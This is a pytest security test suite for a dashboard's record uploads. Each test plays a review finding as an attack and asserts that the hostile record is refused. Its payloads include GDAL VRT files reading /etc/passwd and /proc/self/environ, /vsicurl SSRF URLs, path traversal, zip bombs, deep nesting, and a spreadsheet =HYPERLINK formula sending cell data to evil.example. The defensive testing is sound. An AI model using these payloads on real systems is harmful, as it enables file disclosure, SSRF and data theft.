"""An uploaded (or ``--data``) record cannot read the server's files, reach its network or exhaust it.

Each test is one finding of the security review (issue 8), tried as an attacker would: the hostile
record is refused with a clear message, no byte of the target file appears in any output, no
request reaches a local server, the budgets the code enforces hold, and nothing is left on disk.
Checks that need the real server (headers, upload body cap, the token route) are in
``tests/e2e/test_security.py``.
"""

from __future__ import annotations

import contextlib
import http.server
import io
import json
import os
import re
import sys
import threading
import time
import tracemalloc
import zipfile
from pathlib import Path
from typing import TYPE_CHECKING

import markupsafe
import pytest
from streamlit.testing.v1 import AppTest

import geodata
from dashboard import cache, upload
from dashboard.assets import map_assets
from dashboard.store import BoundedStore, UnsafeFolderError, private_root, upload_store
from geodata.__main__ import main
from geodata._limits import (
    MAX_BOUNDARY_BYTES,
    MAX_BOUNDARY_FEATURES,
    MAX_CELL_CHARS,
    MAX_PERIOD_DAYS,
    MAX_REPORTED_PROBLEMS,
    MAX_TABLE_COLUMNS,
    MAX_TABLE_ROWS,
    MAX_UNPACKED_BYTES,
)
from tests.uploads import APP, record_folder, uploaded, zipped

if TYPE_CHECKING:
    from collections.abc import Iterator

SECRET = "kz-security-test-secret-7f3a"
PASSWD_LINE = Path("/etc/passwd").read_text().splitlines()[0]


# --- watching what the code opens and what reaches a local server ------------------------------

_WATCH: dict[str, list[str] | None] = {"opened": None}


def _audit(event: str, args: tuple) -> None:
    opened = _WATCH["opened"]
    if opened is not None and event == "open" and isinstance(args[0], str | bytes | os.PathLike):
        opened.append(os.fsdecode(args[0]))


sys.addaudithook(_audit)  # cannot be removed; it records only inside files_opened()


@contextlib.contextmanager
def files_opened() -> Iterator[list[str]]:
    """Every path opened (by Python, in any thread) while the block runs."""
    opened: list[str] = []
    _WATCH["opened"] = opened
    try:
        yield opened
    finally:
        _WATCH["opened"] = None


@pytest.fixture
def local_server() -> Iterator[tuple[str, list[str]]]:
    """An HTTP server on 127.0.0.1 that records every request it gets (none should arrive)."""
    requests: list[str] = []

    class Recorder(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            requests.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b'{"type":"FeatureCollection","features":[]}')

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", requests
    finally:
        server.shutdown()
        server.server_close()


def with_boundaries(folder: Path, **paths: str) -> Path:
    """Point ``folder``'s record.toml at other boundary files."""
    lines = "".join(f'{key} = "{value}"\n' for key, value in paths.items())
    with (folder / "record.toml").open("a") as toml:
        toml.write(f"\n[boundaries]\n{lines}")
    return folder


def refused_upload(data: bytes, name: str = "upload.zip") -> str:
    """The problems an upload is refused with; the store must hold nothing afterwards."""
    with pytest.raises(geodata.RecordError) as caught:
        upload.checked_upload(data, name)
    assert stored_uploads() == []
    return str(caught.value)


def stored_uploads() -> list[str]:
    return sorted(entry.name for entry in upload_store().root.iterdir())


def vrt(source: str) -> bytes:
    """An OGR VRT: GDAL would read ``source`` through it if it ever opened the file."""
    return (
        f"<OGRVRTDataSource><OGRVRTLayer name='x'><SrcDataSource>{source}</SrcDataSource>"
        "</OGRVRTLayer></OGRVRTDataSource>"
    ).encode()


# --- 1. arbitrary file read and SSRF through GDAL -----------------------------------------------


@pytest.mark.parametrize(
    "source", ["CSV:/etc/passwd", "CSV:/proc/self/environ", "/vsicurl/{server}/secret.csv"]
)
def test_a_vrt_saved_as_geojson_is_refused_unread(tmp_path, monkeypatch, local_server, source):
    server, requests = local_server
    monkeypatch.setenv("KZ_SECURITY_SECRET", SECRET)
    folder = with_boundaries(record_folder(tmp_path), countries="countries.geojson")
    (folder / "countries.geojson").write_bytes(vrt(source.format(server=server)))
    with files_opened() as opened:
        message = refused_upload(zipped(folder))
    assert "countries.geojson: is not GeoJSON" in message
    for leaked in (PASSWD_LINE, "root:", SECRET):
        assert leaked not in message
    assert requests == []
    assert not any(path in {"/etc/passwd", "/proc/self/environ"} for path in opened)


def test_the_cli_never_hands_a_boundary_file_to_gdal(tmp_path, capsys, local_server):
    """``--data`` records (trusted more than uploads) are still read as GeoJSON only."""
    server, requests = local_server
    folder = with_boundaries(record_folder(tmp_path), regions="regions.geojson")
    (folder / "regions.geojson").write_bytes(vrt(f"/vsicurl/{server}/r.csv"))
    assert main(["--data", str(folder), "validate"]) == 1
    assert "regions.geojson: is not GeoJSON" in capsys.readouterr().err
    assert requests == []


# --- 2. [boundaries] paths outside the upload ---------------------------------------------------


@pytest.mark.parametrize(
    ("key", "target"),
    [
        ("countries", "/etc/passwd"),
        ("places_gazetteer", "/dev/zero"),
        ("regions", "/vsicurl?url={server}/internal.geojson"),
        ("regions", "/vsicurl/{server}/internal.geojson"),
        ("countries", "../../../../etc/passwd"),
        ("regions", "/no/such/file.geojson"),
    ],
)
def test_boundaries_outside_the_upload_are_refused_before_opening(
    tmp_path, local_server, key, target
):
    server, requests = local_server
    folder = with_boundaries(record_folder(tmp_path), **{key: target.format(server=server)})
    with files_opened() as opened:
        message = refused_upload(zipped(folder))
    # The same words whether the target exists or not: errors tell nothing about the server.
    assert f"column 'boundaries.{key}': must name a file inside the uploaded record" in message
    assert PASSWD_LINE not in message and "No such file" not in message
    assert requests == []
    assert not any(path.startswith(("/etc/", "/dev/", "/vsicurl", "/no/")) for path in opened)


@pytest.mark.parametrize("target", ["/dev/zero", ".", "/vsicurl/http://127.0.0.1:9/x"])
def test_a_data_record_opens_only_regular_files(tmp_path, capsys, target):
    folder = with_boundaries(record_folder(tmp_path), places_gazetteer=target)
    with files_opened() as opened:
        assert main(["--data", str(folder), "validate"]) == 1
    assert "is missing or not a regular file" in capsys.readouterr().err
    assert "/dev/zero" not in opened


def test_a_gazetteer_without_its_columns_is_one_clear_problem(tmp_path):
    folder = with_boundaries(record_folder(tmp_path), places_gazetteer="gazetteer.csv")
    (folder / "gazetteer.csv").write_text("id,lat,lon\n1,1,1\n")
    with pytest.raises(geodata.RecordError) as caught:
        geodata.load_record(folder)
    assert "gazetteer.csv, row 1, column 'geonames_id': column is missing" in str(caught.value)


# --- 3. unbounded validation work ---------------------------------------------------------------


def test_a_million_bad_rows_cost_a_count_not_a_million_problems(tmp_path):
    folder = record_folder(tmp_path)
    header = (folder / "events.csv").read_text().splitlines()[0]
    (folder / "events.csv").write_text(header + "\n" + "x\n" * 1_000_000)
    data = zipped(folder)
    assert len(data) < 100_000  # 2 MB of text compresses to a small upload
    tracemalloc.start()
    try:
        message = refused_upload(data)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert f"events.csv: has more than {MAX_TABLE_ROWS:,} rows" in message
    assert len(message) < 2_000
    # The file's 2 MB is read and decoded once; nothing per row is kept.
    assert peak < 40 * 2**20, f"peak {peak / 2**20:.0f} MB"


def test_many_problems_are_listed_up_to_the_budget_and_counted(tmp_path):
    folder = record_folder(tmp_path)
    lines = (folder / "events.csv").read_text().splitlines()
    bad = ",".join(["x"] * len(lines[0].split(",")))
    (folder / "events.csv").write_text("\n".join([lines[0], *[bad] * MAX_TABLE_ROWS]) + "\n")
    with pytest.raises(geodata.RecordError) as caught:
        geodata.load_record(folder)
    error = caught.value
    listed = [line for line in str(error).splitlines() if line.startswith("  - ")]
    assert len(listed) == MAX_REPORTED_PROBLEMS
    assert error.total > MAX_TABLE_ROWS  # every row has several bad cells
    assert f"… and {error.total - MAX_REPORTED_PROBLEMS:,} more, not listed" in str(error)
    assert len(str(error)) < 100_000


def test_all_tables_together_have_a_row_budget(tmp_path, monkeypatch):
    monkeypatch.setattr("geodata._load.MAX_TOTAL_ROWS", 100)
    with pytest.raises(geodata.RecordError, match="rows in all; a record may have at most 100"):
        geodata.load_record(record_folder(tmp_path))


# --- 4. nothing is ever deleted -----------------------------------------------------------------


def test_a_zip_of_zeros_is_refused_and_leaves_nothing(tmp_path):
    padding = {f"my-record/pad{i}.txt": b"\0" * (2 * 1024 * 1024) for i in range(50)}
    data = zipped(record_folder(tmp_path), padding)
    assert len(data) < 200_000
    message = refused_upload(data)
    assert f"at most {MAX_UNPACKED_BYTES // 2**20} MB" in message


def test_a_refused_record_leaves_nothing_and_an_accepted_one_is_private(tmp_path):
    broken = record_folder(tmp_path / "a")
    (broken / "events.csv").write_text("id,date\nx,2022-01-32\n")
    refused_upload(zipped(broken))
    folder, record_dir = upload.checked_upload(zipped(record_folder(tmp_path / "b")), "ok.zip")
    assert stored_uploads() == [folder.name]
    assert len(folder.name) >= 32  # the token: unguessable
    assert (folder.stat().st_mode & 0o777) == 0o700
    assert (upload_store().root.parent.stat().st_mode & 0o777) == 0o700
    assert record_dir.is_relative_to(folder)


def test_the_store_evicts_the_least_recently_used_past_its_budget(tmp_path):
    store = BoundedStore(private_root(tmp_path) / "s", max_bytes=3_000, max_age=3600)
    now = time.time()
    folders = []
    for age in (500, 400, 300, 200, 100):  # oldest first
        folder = store.new_folder()
        (folder / "data.csv").write_bytes(b"x" * 1_000)
        os.utime(folder, (now - age, now - age))
        folders.append(folder)
    store.touch(folders[0])  # used just now: kept although created first
    removed = store.sweep(now=now)
    assert set(removed) == {folders[1], folders[2]}
    assert store.size() <= 3_000
    assert all(folder.exists() for folder in (folders[0], folders[3], folders[4]))


def test_the_store_drops_what_is_too_old_and_anything_that_is_not_its_folder(tmp_path):
    store = BoundedStore(private_root(tmp_path) / "s", max_bytes=10**9, max_age=60)
    old, fresh = store.new_folder(), store.new_folder()
    os.utime(old, (time.time() - 120, time.time() - 120))
    (store.root / "stray.part").write_bytes(b"half-written")
    (store.root / "link").symlink_to("/etc")
    removed = {path.name for path in store.sweep()}
    assert removed == {old.name, "stray.part", "link"}
    assert fresh.exists() and Path("/etc/passwd").exists()


@pytest.mark.parametrize("planted", ["symlink", "other_mode"])
def test_a_planted_private_folder_is_refused(tmp_path, planted):
    root = tmp_path / f"kz-dashboard-{os.getuid()}"
    if planted == "symlink":
        (tmp_path / "elsewhere").mkdir()
        root.symlink_to(tmp_path / "elsewhere")
    else:
        root.mkdir(mode=0o777)
        root.chmod(0o777)
    with pytest.raises(UnsafeFolderError):
        private_root(tmp_path)


def test_the_upload_store_falls_back_to_a_fresh_folder_when_planted(tmp_path, monkeypatch):
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / f"kz-dashboard-{os.getuid()}").symlink_to(tmp_path / "elsewhere")
    monkeypatch.setenv("KZ_STORE_DIR", str(tmp_path))
    upload_store.cache_clear()
    root = upload_store().root
    assert not root.is_relative_to(tmp_path / "elsewhere")
    assert (root.parent.stat().st_mode & 0o777) == 0o700


# --- 5. memory per cached record ---------------------------------------------------------------


def test_the_record_cache_is_bounded_by_size_not_by_entries(record):
    size = record.estimated_bytes()
    records = cache.RecordCache(max_bytes=int(2.5 * size))
    for name in "abcd":
        records.put((name, (), None), record)
    assert len(records) == 2 and records.used() <= records.max_bytes
    assert records.get(("a", (), None)) is None and records.get(("d", (), None)) is record


def test_a_dropped_record_is_not_kept_alive_by_the_chart_spec(tmp_path):
    import gc
    import weakref

    from dashboard import panels

    loaded = geodata.load_record(record_folder(tmp_path))
    panels._troop_chart_spec(loaded)
    alive = weakref.ref(loaded)
    del loaded
    gc.collect()
    assert alive() is None


# --- 6. a long period is a CPU DoS --------------------------------------------------------------


def test_a_period_of_two_centuries_is_refused_at_once(tmp_path):
    folder = record_folder(tmp_path)
    toml = (folder / "record.toml").read_text()
    toml = re.sub(r"period_start = .*", "period_start = 1900-01-01", toml)
    toml = re.sub(r"period_end = .*", "period_end = 2099-12-31", toml)
    (folder / "record.toml").write_text(toml)
    message = refused_upload(zipped(folder))
    assert f"period of 73,049 days; a record may cover at most {MAX_PERIOD_DAYS:,}" in message


# --- 7. an upload is seen by its session only ---------------------------------------------------


def test_an_uploads_polygons_are_reached_by_its_token_only(tmp_path):
    folder = with_boundaries(
        record_folder(tmp_path), countries="own/countries.geojson", regions="own/regions.geojson"
    )
    (folder / "own").mkdir()
    bundled = geodata.bundled_record_path().parent / "boundaries"
    (folder / "own" / "countries.geojson").write_bytes((bundled / "countries.geojson").read_bytes())
    (folder / "own" / "regions.geojson").write_bytes(
        (bundled / "kz_regions_2022-01.geojson").read_bytes()
    )
    stored, record_dir = upload.checked_upload(zipped(folder), "own.zip")
    record = geodata.load_record(record_dir, confined_to=stored)
    assets = map_assets(record)
    assert assets.countries_url == f"/kz/upload/{stored.name}/countries.geojson"
    assert assets.regions_url == f"/kz/upload/{stored.name}/regions.geojson"
    # Only the map's polygons (id, name, validated geometry) are there to serve, not the upload.
    served = sorted(path.name for path in (stored / "map").iterdir())
    assert served == ["countries.geojson", "regions.geojson"]
    # The bundled record's public files are still served as files.
    assert map_assets(geodata.load_record()).countries_url.startswith("/component/")


# --- 9. the rest: deep nesting, exceptions, concurrency, formulas -------------------------------


def test_a_member_a_thousand_folders_deep_is_refused(tmp_path):
    deep = "my-record/" + "d/" * 1_200 + "x.csv"
    message = refused_upload(zipped(record_folder(tmp_path), {deep: b"x"}))
    assert "nested too deeply" in message


def test_a_toml_nested_a_hundred_thousand_deep_is_refused(tmp_path):
    folder = record_folder(tmp_path)
    with (folder / "record.toml").open("a") as toml:
        toml.write("deep = " + "[" * 20_000 + "]" * 20_000 + "\n")
    message = refused_upload(zipped(folder))
    assert "record.toml" in message and ("nests too deeply" in message or "larger than" in message)
    with (folder / "record.toml").open("w") as toml:
        toml.write("x = " + "[" * 100_000 + "]" * 100_000 + "\n")
    assert "record.toml: is larger than 64 KB" in refused_upload(zipped(folder))


def test_geojson_nested_deeply_or_too_big_is_refused(tmp_path):
    folder = with_boundaries(record_folder(tmp_path), countries="c.geojson")
    (folder / "c.geojson").write_text("[" * 100_000 + "]" * 100_000)
    message = refused_upload(zipped(folder))
    assert "c.geojson: is not GeoJSON" in message
    (folder / "c.geojson").write_bytes(b" " * (MAX_BOUNDARY_BYTES + 1))
    assert f"larger than {MAX_BOUNDARY_BYTES // 2**20} MB" in refused_upload(zipped(folder))


def test_two_sessions_uploading_the_same_zip_at_once_both_succeed(tmp_path):
    data = zipped(record_folder(tmp_path))
    results: list[object] = []

    def accept() -> None:
        try:
            results.append(upload.checked_upload(data, "same.zip")[0])
        except Exception as error:
            results.append(error)

    threads = [threading.Thread(target=accept) for _ in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=120)
    assert all(isinstance(result, Path) for result in results), [repr(r) for r in results]
    assert len({result.name for result in results}) == 2  # one private folder each


def test_a_sweep_while_another_session_unpacks_never_fails(tmp_path):
    """Found by the test above: a sweep counted files that another upload's unpacking renamed."""
    data = zipped(record_folder(tmp_path))
    stop, errors = threading.Event(), []

    def sweep_until_stopped() -> None:
        while not stop.is_set():
            try:
                upload_store().sweep()
            except OSError as error:
                errors.append(repr(error))
                return

    sweeper = threading.Thread(target=sweep_until_stopped)
    sweeper.start()
    try:
        for _ in range(4):
            upload.checked_upload(data, "x.zip")
    finally:
        stop.set()
        sweeper.join(timeout=60)
    assert errors == []


def test_a_formula_in_a_country_name_reaches_the_troop_table_as_text(tmp_path, monkeypatch):
    folder = with_boundaries(record_folder(tmp_path), countries="countries.geojson")
    bundled = geodata.bundled_record_path().parent / "boundaries" / "countries.geojson"
    payload = '=HYPERLINK("http://evil.example/?x="&A1,"Russia")'
    (folder / "countries.geojson").write_text(
        bundled.read_text().replace('"name":"Russia"', '"name":' + json.dumps(payload))
    )
    monkeypatch.setenv("KZ_RECORD_DIR", str(folder))
    app = AppTest.from_file(APP, default_timeout=60)
    app.query_params["date"] = "2022-01-10"
    app.run()
    assert not app.exception
    (table,) = (
        h.proto.body for h in app.get("html") if '<section class="kz-troop-table"' in h.proto.body
    )
    assert str(markupsafe.escape(payload)) in table  # shown as the text it is
    assert "evil.example" not in table.replace(str(markupsafe.escape(payload)), "")


# --- through the page: AppTest uploads ----------------------------------------------------------


def test_a_hostile_upload_in_the_page_shows_problems_and_leaves_nothing(tmp_path, local_server):
    server, requests = local_server
    folder = with_boundaries(record_folder(tmp_path), countries="countries.geojson")
    (folder / "countries.geojson").write_bytes(vrt("CSV:/etc/passwd"))
    app = AppTest.from_file(APP, default_timeout=60).run()
    uploaded(app, "vrt.zip", zipped(folder))
    assert not app.exception
    assert "was not loaded" in app.error[0].value
    shown = app.code[0].value
    assert "countries.geojson: is not GeoJSON" in shown and PASSWD_LINE not in shown
    assert stored_uploads() == []
    uploaded(
        app,
        "ssrf.zip",
        zipped(with_boundaries(record_folder(tmp_path / "b"), regions=f"/vsicurl?url={server}/x")),
    )
    assert "must name a file inside the uploaded record" in app.code[0].value
    assert requests == [] and stored_uploads() == []
    assert "Kazakhstan, January 2022" in str(app.get("html")[0].proto)


def test_an_accepted_upload_is_removed_when_the_session_lets_it_go(tmp_path):
    app = AppTest.from_file(APP, default_timeout=60).run()
    uploaded(app, "mine.zip", zipped(record_folder(tmp_path, "Mine")))
    assert len(stored_uploads()) == 1
    app.button(key="forget_upload").click().run()
    assert stored_uploads() == []
    assert "Kazakhstan, January 2022" in str(app.get("html")[0].proto)


def test_an_expired_upload_falls_back_to_the_bundled_record_and_says_so(tmp_path):
    app = AppTest.from_file(APP, default_timeout=60).run()
    uploaded(app, "mine.zip", zipped(record_folder(tmp_path, "Mine")))
    (token,) = stored_uploads()
    upload_store().remove(upload_store().root / token)
    app.run()
    assert not app.exception
    assert "removed from the server" in app.warning[0].value
    assert "Kazakhstan, January 2022" in str(app.get("html")[0].proto)


def test_an_upload_archive_is_read_with_zipfile_only(tmp_path):
    """A .zip that is also something else (a polyglot) is read as a zip or refused, never sniffed."""
    buffer = io.BytesIO(b"<OGRVRTDataSource>" + b" " * 100)
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr("r/record.toml", "title = 1")
    message = refused_upload(buffer.getvalue())
    assert "record.toml" in message or "not a readable .zip" in message


# --- found by a second review (red team, this session) ------------------------------------------


def test_a_table_wider_than_any_schema_is_refused_before_pandas(tmp_path):
    folder = record_folder(tmp_path)
    lines = (folder / "events.csv").read_text().splitlines()
    (folder / "events.csv").write_text(lines[0] + "," * 350_000 + "\n" + lines[1] + "\n")
    message = refused_upload(zipped(folder))
    cells = lines[0].count(",") + 1 + 350_000
    assert (
        f"events.csv, row 1: has {cells:,} cells; a table has at most {MAX_TABLE_COLUMNS}"
        in message
    )


def test_a_huge_cell_is_refused(tmp_path):
    folder = record_folder(tmp_path)
    lines = (folder / "events.csv").read_text().splitlines()
    (folder / "events.csv").write_text(
        lines[0] + "\n" + lines[1].replace(",", "," + "x" * 200_000, 1) + "\n"
    )
    assert f"more than {MAX_CELL_CHARS:,} characters" in refused_upload(zipped(folder))


def boundary_file(folder: Path, features: list) -> None:
    (folder / "c.geojson").write_text(
        json.dumps({"type": "FeatureCollection", "features": features})
    )


def test_a_boundary_file_of_many_features_is_refused_before_reading_them(tmp_path):
    folder = with_boundaries(record_folder(tmp_path), countries="c.geojson")
    boundary_file(folder, [0] * (MAX_BOUNDARY_FEATURES + 1))
    tracemalloc.start()
    try:
        message = refused_upload(zipped(folder))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert f"a boundary file may have at most {MAX_BOUNDARY_FEATURES:,}" in message
    assert peak < 20 * 2**20


def test_only_the_properties_the_record_uses_are_kept(tmp_path):
    """Features with hundreds of different keys cost what their id and name cost."""
    folder = with_boundaries(record_folder(tmp_path), countries="c.geojson")
    bundled = json.loads(
        (geodata.bundled_record_path().parent / "boundaries" / "countries.geojson").read_text()
    )
    for number, feature in enumerate(bundled["features"]):
        feature["properties"].update({f"k{number}_{i}": "v" * 50 for i in range(300)})
    boundary_file(folder, bundled["features"])
    record = geodata.load_record(folder)
    assert list(record.countries.columns) == ["iso3", "name", "geometry"]


def test_an_upload_keeps_only_the_files_its_record_reads(tmp_path):
    padding = {"my-record/pad.txt": b"\0" * (8 * 2**20), "my-record/notes/README.md": b"notes"}
    stored, _ = upload.checked_upload(zipped(record_folder(tmp_path), padding), "p.zip")
    names = sorted(path.name for path in stored.rglob("*") if path.is_file())
    assert "pad.txt" not in names and "README.md" not in names
    assert "record.toml" in names and "events.csv" in names
    assert upload_store().size() < 2**20


def test_unpacking_errors_never_show_the_servers_folders(tmp_path):
    extra = {"my-record/notes.txt": b"x", "my-record/notes.txt/inner.txt": b"y"}
    message = refused_upload(zipped(record_folder(tmp_path), extra))
    assert "is inside a file of the same name" in message
    assert str(upload_store().root) not in message and "/tmp" not in message
    long_name = "my-record/" + "é" * 200 + ".txt"
    message = refused_upload(zipped(record_folder(tmp_path / "b"), {long_name: b"x"}))
    assert "255 bytes a name" in message and "/tmp" not in message


@pytest.mark.parametrize(("lat", "lon"), [("inf", "nan"), ("91", "10"), ("10", "-181")])
def test_gazetteer_coordinates_must_be_real_positions(tmp_path, lat, lon):
    folder = with_boundaries(record_folder(tmp_path), places_gazetteer="g.csv")
    gazetteer = (
        (geodata.bundled_record_path().parent / "geonames_places.csv").read_text().splitlines()
    )
    first = gazetteer[1].split(",")
    first[4], first[5] = lat, lon
    (folder / "g.csv").write_text("\n".join([gazetteer[0], ",".join(first), *gazetteer[2:]]) + "\n")
    with pytest.raises(geodata.RecordError, match=re.escape("needs a latitude -90..90")):
        geodata.load_record(folder)


def test_an_export_does_its_work_only_while_it_is_streamed(monkeypatch, record):
    """The server's event loop only gets the generator: the work runs where it is iterated."""
    calls = []
    real = geodata._export.snapshot
    monkeypatch.setattr(geodata._export, "snapshot", lambda *a: calls.append(a) or real(*a))
    chunks = geodata.timeline_chunks(record)
    assert calls == []
    assert b"".join(chunks).startswith(b'{"type":"FeatureCollection"')
    assert len(calls) == len(record.meta.days)
